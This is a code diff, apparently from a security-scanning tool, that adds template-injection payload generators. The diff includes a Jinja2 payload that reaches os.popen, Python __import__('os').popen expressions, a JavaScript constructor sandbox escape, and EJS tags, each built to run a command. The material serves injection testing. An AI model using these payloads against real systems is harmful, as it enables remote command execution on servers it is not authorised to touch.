@@ -7,17 +7,35 @@ const CALCULATING = vocabularyWords(
 	'calculate calculator calc math maths expression formula equation evaluate eval compute condition filter rule',
 );
 
+const RENDERING = vocabularyWords(
+	'template templates render renders rendering placeholder placeholders jinja jinja2 mustache handlebars ejs',
+);
+
 export const code: InjectionKind = {
 	class: 'code',
 	groups(target) {
 		if (target.kind !== 'text') return [];
 		const likely = says(target, CALCULATING) ? 12 : 0;
 		const weight = (language: 'node' | 'python') => (target.language === 'other' || target.language === language ? 70 : 30) + likely;
+		const rendered = says(target, RENDERING) ? 8 : 0;
 		const [js, py] = [weight('node'), weight('python')];
 		return [
 			one(js, 'a JavaScript expression', javascript),
 			one(js - 9, 'JavaScript between single quotes', (mark) => `'+${javascript(mark)}+'`),
 			one(js - 10, 'JavaScript between double quotes', (mark) => `"+${javascript(mark)}+"`),
+			one(js - 2 + rendered, 'JavaScript in a template string', (mark) => `\${${javascript(mark)}}`),
+			...(rendered === 0
+				? []
+				: [
+						one(js + 3, 'JavaScript in double braces', (mark) => `{{range.constructor('return ${javascript(mark)}')()}}`),
+						one(js + 2, 'JavaScript in <%= %>', (mark) => `<%= ${javascript(mark)} %>`),
+						one(
+							py + 3,
+							'Python in double braces',
+							(mark) => `{{ ''.__class__.__base__.__subclasses__() }}{{ cycler.__init__.__globals__.os.popen('${command(mark)}').read() }}`,
+						),
+						one(py + 2, 'Python in a template expression', (mark) => `\${__import__('os').popen('${command(mark)}').read()}`),
+					]),
 			one(py, "__import__('os')", (mark) => `__import__('os').popen('${command(mark)}').read()`),
 			// Needs no builtins: they may have been taken away.
 			one(py - 1, 'a Python expression that walks up the classes', classes),
